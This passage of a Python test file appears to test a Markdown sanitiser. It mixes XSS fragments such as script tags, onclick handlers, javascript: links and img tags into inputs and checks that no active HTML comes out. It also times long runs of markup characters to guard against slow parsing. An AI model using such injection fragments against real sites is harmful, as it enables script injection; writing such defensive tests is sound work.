        assert part in html.replace("text-align: ", "text-align:"), part


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(
            [
                "`",
                "``",
                "```",
                "<script>",
                "</script>",
                "<b",
                " onclick=x",
                ">",
                "<!--",
                "-->",
                "\n",
                "\n\n",
                "    ",
                "- ",
                "> ",
                "[a]",
                "(javascript:x)",
                "!",
                "{: ",
                " }",
                "\\",
                "|",
                "<",
                "&#x3c;",
                "~~~",
                "<img src=//x>",
                "x",
                " ",
            ]
        ),
        max_size=14,
    )
)
def test_any_mixture_of_marks_gives_a_page_without_anything_active(parts: list[str]) -> None:
    text = "".join(parts)
    check_article(text)
    assert not ACTIVE.search(markdown.markdown(text, extensions=EXTENSIONS))


@pytest.mark.parametrize(
    "text",
    [
        "- " * 5_000 + "x",
        "-   " * 2_000 + "[",
        "> " * 10_000,
        "- ```\n" * 300,
        "---\na: " + "[" * 50_000 + "\n---\n",
        "[" * 20_000,
        "![" * 10_000,
        "`" * 20_000,
        "` a" * 7_000,
        "<!--" * 5_000,
        "{" * 20_000,
        "<b " * 2_000,
    ],
)
def test_a_long_run_of_marks_is_checked_in_time(text: str) -> None:
    began = time.perf_counter()
    check_article(text)
    assert time.perf_counter() - began < 5
